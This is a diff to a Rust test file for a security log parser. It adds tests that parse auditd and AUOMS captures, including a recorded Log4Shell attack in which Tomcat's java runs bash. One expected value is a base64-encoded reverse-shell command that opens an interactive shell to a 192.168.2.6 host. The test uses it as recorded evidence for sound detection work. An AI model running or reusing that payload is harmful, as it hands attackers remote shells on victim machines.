@@ -416,7 +416,13 @@ fn panther_resolver_test_records() {
 #[test]
 fn otrf_auditd_executions_field_by_field() {
     let dir = testdata("audit/otrf");
-    let read = read_table(std::slice::from_ref(&dir), "process");
+    // The auditd captures of the folder (it also holds the AUOMS export, tested on its own).
+    let files = [
+        "sh_binary_padding_dd_2020-11-10081941.log",
+        "sh_arp_cache_2020-11-10074812.log",
+    ];
+    let paths: Vec<PathBuf> = files.iter().map(|f| dir.join(f)).collect();
+    let read = read_table(&paths, "process");
     no_problems(&read);
     let rows = read.records();
     let dd = rows
@@ -449,21 +455,302 @@ fn otrf_auditd_executions_field_by_field() {
             .starts_with("2020-11-10T08:19:44.965")
     );
     // Each sample is executions only: one row per SYSCALL/EXECVE event.
-    let executions: usize = [
-        "sh_binary_padding_dd_2020-11-10081941.log",
-        "sh_arp_cache_2020-11-10074812.log",
-    ]
-    .iter()
-    .map(|f| {
-        std::fs::read_to_string(dir.join(f))
-            .expect("read")
-            .lines()
-            .filter(|l| l.starts_with("type=EXECVE"))
-            .count()
-    })
-    .sum();
+    let executions: usize = files
+        .iter()
+        .map(|f| {
+            std::fs::read_to_string(dir.join(f))
+                .expect("read")
+                .lines()
+                .filter(|l| l.starts_with("type=EXECVE"))
+                .count()
+        })
+        .sum();
     assert_eq!(rows.len(), executions);
     assert_eq!(read.catalog.counts().get(&LogKind::Auditd), Some(&2));
+}
+
+/// The OTRF AUOMS capture: a Log Analytics `Syslog` export, one JSON object per line.
+const AUOMS_EXPORT: &str =
+    "audit/otrf/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json";
+
+/// The capture's rows as JSON, in file order.
+fn auoms_rows() -> Vec<Json> {
+    std::fs::read_to_string(testdata(AUOMS_EXPORT))
+        .expect("read")
+        .lines()
+        .map(|line| serde_json::from_str(line).expect("a JSON line"))
+        .collect()
+}
+
+/// The `SECONDS.MILLIS:SERIAL` of a record's `audit(...)` stamp.
+fn auoms_stamp(message: &str) -> (&str, &str) {
+    let stamp = message
+        .split_once("audit(")
+        .and_then(|(_, rest)| rest.split_once(')'))
+        .expect("a stamp")
+        .0;
+    stamp.split_once(':').expect("time:serial")
+}
+
+#[test]
+fn otrf_auoms_export_executions_field_by_field() {
+    let read = read_table(&[testdata(AUOMS_EXPORT)], "process");
+    no_problems(&read);
+    assert_eq!(read.catalog.counts().get(&LogKind::Auditd), Some(&1));
+    let rows = read.records();
+    let inputs = auoms_rows();
+    // Every record is an AUOMS_EXECVE: one row each, failed execs included.
+    assert_eq!(inputs.len(), 50);
+    assert_eq!(rows.len(), inputs.len());
+    // Each row points at its JSON line, and carries that line's stamp, host and outcome.
+    for row in &rows {
+        let line: usize = row["source_line"]
+            .as_deref()
+            .expect("line")
+            .parse()
+            .expect("n");
+        let input = &inputs[line - 1];
+        let message = input["SyslogMessage"].as_str().expect("message");
+        let (time, serial) = auoms_stamp(message);
+        assert_eq!(row["serial"].as_deref(), Some(serial), "line {line}");
+        let seconds: i64 = time.split('.').next().expect("s").parse().expect("n");
+        let time_ms = seconds * 1000 + time[time.len() - 3..].parse::<i64>().expect("ms");
+        let civil = eastwest_model::time::Civil::from_ms(time_ms);
+        let expected = format!(
+            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
+            civil.year, civil.month, civil.day, civil.hour, civil.minute, civil.second, civil.milli
+        );
+        assert_eq!(
+            row["time"].as_deref(),
+            Some(expected.as_str()),
+            "line {line}"
+        );
+        assert_eq!(row["host"], text(input.get("Computer")), "line {line}");
+        let succeeded = message.contains(" success=yes ");
+        let expected = if succeeded { "true" } else { "false" };
+        assert_eq!(row["success"].as_deref(), Some(expected), "line {line}");
+        // A successful execve has its arguments; a failed one the caller's title instead.
+        assert_eq!(message.contains(" cmdline="), succeeded, "line {line}");
+        assert_eq!(row["source_event"], None);
+        assert_eq!(row["auid"], None, "4294967295 is unset");
+        assert_eq!(row["auid_name"], None, "audit_user=unset is no name");
+        assert_eq!(row["session"], None, "ses=-1 is unset");
+        assert_eq!(row["tty"], None);
+        assert_eq!(row["key"].as_deref(), Some("auoms,delete"));
+    }
+    let succeeded: Vec<_> = rows
+        .iter()
+        .filter(|r| r["success"].as_deref() == Some("true"))
+        .collect();
+    assert_eq!(succeeded.len(), 27);
+    let failed = rows
+        .iter()
+        .filter(|r| r["success"].as_deref() == Some("false"))
+        .count();
+    assert_eq!(failed, 23);
+
+    // Log4Shell: Tomcat's java runs bash with a base64 reverse shell.
+    let shell = rows
+        .iter()
+        .find(|r| r["serial"].as_deref() == Some("84143"))
+        .expect("the bash -c execution");
+    let payload =
+        "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";
+    let command_line = format!("bash -c \"{payload}\"");
+    let argv = format!("[bash, -c, {payload}]");
+    let expect = [
+        ("time", "2022-05-11T18:10:21.990Z"),
+        ("host", "UBUNTU5"),
+        ("pid", "17790"),
+        ("ppid", "1340"),
+        ("uid", "1001"),
+        ("euid", "1001"),
+        ("uid_name", "tomcat"),
+        ("exe", "/bin/bash"),
+        ("comm", "bash"),
+        ("cwd", "/"),
+        ("command_line", command_line.as_str()),
+        ("argv", argv.as_str()),
+        ("success", "true"),
+        ("serial", "84143"),
+        ("source_line", "6"),
+    ];
+    for (column, value) in expect {
+        assert_eq!(shell[column].as_deref(), Some(value), "{column}");
+    }
+    // Then `whoami` from the reverse shell's interactive bash.
+    let whoami = rows
+        .iter()
+        .find(|r| r["exe"].as_deref() == Some("/usr/bin/whoami"))
+        .expect("whoami");
+    let expect = [
+        ("time", "2022-05-11T18:10:33.146Z"),
+        ("pid", "17832"),
+        ("ppid", "17806"),
+        ("uid", "1001"),
+        ("uid_name", "tomcat"),
+        ("comm", "whoami"),
+        ("command_line", "whoami"),
+        ("argv", "[whoami]"),
+        ("cwd", "/"),
+        ("serial", "84192"),
+        ("source_line", "35"),
+    ];
+    for (column, value) in expect {
+        assert_eq!(whoami[column].as_deref(), Some(value), "{column}");
+    }
+    // A failed execve is the caller's (java, trying each PATH entry for bash): its exe, comm
+    // and title, whose words stand in for the arguments.
+    let first = rows
+        .iter()
+        .find(|r| r["source_line"].as_deref() == Some("1"))
+        .expect("line 1");
+    assert_eq!(first["success"].as_deref(), Some("false"));
+    assert_eq!(
+        first["exe"].as_deref(),
+        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
+    );
+    assert_eq!(first["comm"].as_deref(), Some("http-nio-8080-e"));
+    assert_eq!(
+        first["command_line"].as_deref(),
+        Some(
+            "/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java \
+             -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l"
+        )
+    );
+    assert!(
+        first["argv"]
+            .as_deref()
+            .expect("argv")
+            .starts_with("[/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java, ")
+    );
+    // The dependency agent (uid nobody) shows up too, with its own user name.
+    assert!(
+        rows.iter()
+            .any(|r| r["uid_name"].as_deref() == Some("nobody")
+                && r["command_line"].as_deref() == Some("dpkg-query --status -- coreutils"))
+    );
+    // Nothing of this capture is an account event or a file watch: counted, not lost.
+    let audit = read_table(&[testdata(AUOMS_EXPORT)], "audit");
+    no_problems(&audit);
+    assert!(audit.records().is_empty());
+    assert_eq!(audit.report.summary().filtered, 50);
+}
+
+#[test]
+fn auoms_plain_text_other_records_and_damage_counted_by_line() {
+    let inputs = auoms_rows();
+    let message = |line: usize| inputs[line - 1]["SyslogMessage"].as_str().expect("message");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path();
+    // auoms's own syslog lines: the records after a syslog prefix, and bare.
+    let quoted = r#"type=AUOMS_EXECVE audit(1652292700.001:90001): SchemaVersion="1" node=web-2 syscall=execve success=yes exit=0 ppid=1 pid=4242 audit_user=alice auid=1000 user=root uid=0 euid=0 tty=pts0 ses=7 comm="python3" exe="/usr/bin/python3.10" key= cwd="/home/alice" argc=5 cmdline="python3 -c 'print(1)' $'a\x01b' "x y" redactors=" redactors= containerid="#;
+    let text_log = format!(
+        "May 11 18:10:33 UBUNTU5 auoms[1201]: {}\n{quoted}\ntype=AUOMS_SYSCALL audit(1652292700.002:90002): SchemaVersion=\"1\" node=web-2 syscall=connect success=yes pid=4242\ntype=AUOMS_EXECVE audit(16522x2700.003:90003): pid=1\n",
+        message(35)
+    );
+    std::fs::write(root.join("syslog"), text_log).expect("write");
+    // The export, damaged: another program's message, invalid JSON, a row without a
+    // SyslogMessage, a record with a bad stamp, overlong lines; one row's Computer renamed.
+    let mut renamed = inputs[49].clone();
+    renamed["Computer"] = Json::String("web-1".to_string());
+    let export = [
+        inputs[5].to_string(),
+        inputs[34].to_string(),
+        r#"{"Computer":"UBUNTU5","SyslogMessage":"sshd[811]: Accepted publickey for azureuser from 192.168.2.6 port 50000 ssh2"}"#.to_string(),
+        "{not json".to_string(),
+        r#"{"TimeGenerated":"2022-05-11T18:10:21.997Z","Computer":"UBUNTU5"}"#.to_string(),
+        r#"{"Computer":"UBUNTU5","SyslogMessage":"type=AUOMS_EXECVE audit(soon:1): pid=1"}"#.to_string(),
+        renamed.to_string(),
+        // Longer than any Syslog row, and a row whose record is longer than any record.
+        format!(r#"{{"SyslogMessage":"{}"}}"#, "x".repeat(400 * 1024)),
+        serde_json::json!({
+            "SyslogMessage": format!("type=AUOMS_EXECVE audit(1.000:1): cmdline=\"{}\"", "a ".repeat(40 * 1024))
+        })
+        .to_string(),
+    ]
+    .join("\n");
+    std::fs::write(root.join("export.json"), gzip(export.as_bytes())).expect("write");
+    std::fs::rename(root.join("export.json"), root.join("export.json.gz")).expect("rename");
+    let read = read_table(&[root.to_path_buf()], "process");
+    assert_eq!(read.catalog.counts().get(&LogKind::Auditd), Some(&2));
+    let rows = read.records();
+    let found: Vec<(&str, &str, &str)> = rows
+        .iter()
+        .map(|r| {
+            (
+                r["source_file"]
+                    .as_deref()
+                    .expect("file")
+                    .rsplit('/')
+                    .next()
+                    .expect("name"),
+                r["source_line"].as_deref().expect("line"),
+                r["host"].as_deref().expect("host"),
+            )
+        })
+        .collect();
+    assert_eq!(
+        found,
+        [
+            ("export.json.gz", "1", "UBUNTU5"),
+            ("export.json.gz", "2", "UBUNTU5"),
+            ("export.json.gz", "7", "web-1"),
+            ("syslog", "1", "UBUNTU5"),
+            ("syslog", "2", "web-2"),
+        ],
+        "{rows:#?}"
+    );
+    let whoami = &rows[3];
+    assert_eq!(whoami["command_line"].as_deref(), Some("whoami"));
+    assert_eq!(whoami["pid"].as_deref(), Some("17832"));
+    let python = &rows[4];
+    assert_eq!(
+        python["argv"].as_deref(),
+        Some("[python3, -c, print(1), a\u{1}b, x y, redactors=]")
+    );
+    assert_eq!(
+        python["command_line"].as_deref(),
+        Some(r#"python3 -c 'print(1)' $'a\x01b' "x y" redactors="#),
+        "the last redactors= ends the command line"
+    );
+    let expect = [
+        ("uid_name", "root"),
+        ("auid", "1000"),
+        ("auid_name", "alice"),
+        ("tty", "pts0"),
+        ("session", "7"),
+        ("cwd", "/home/alice"),
+        ("exe", "/usr/bin/python3.10"),
+    ];
+    for (column, value) in expect {
+        assert_eq!(python[column].as_deref(), Some(value), "{column}");
+    }
+    assert_eq!(python["key"], None);
+    let problems = read.report.problems();
+    let mut places: Vec<String> = problems
+        .iter()
+        .map(|p| {
+            let text = p.to_string();
+            let name = text.rsplit('/').next().expect("name").to_string();
+            name.split(": ").next().expect("place").to_string()
+        })
+        .collect();
+    places.sort();
+    assert_eq!(
+        places,
+        [
+            "export.json.gz:4",
+            "export.json.gz:5",
+            "export.json.gz:6",
+            "export.json.gz:8",
+            "export.json.gz:9",
+            "syslog:4"
+        ],
+        "{problems:#?}"
+    );
+    // The sshd message and the AUOMS_SYSCALL are other records, not problems.
+    assert_eq!(read.report.summary().filtered, 2);
 }
 
 fn gzip(bytes: &[u8]) -> Vec<u8> {
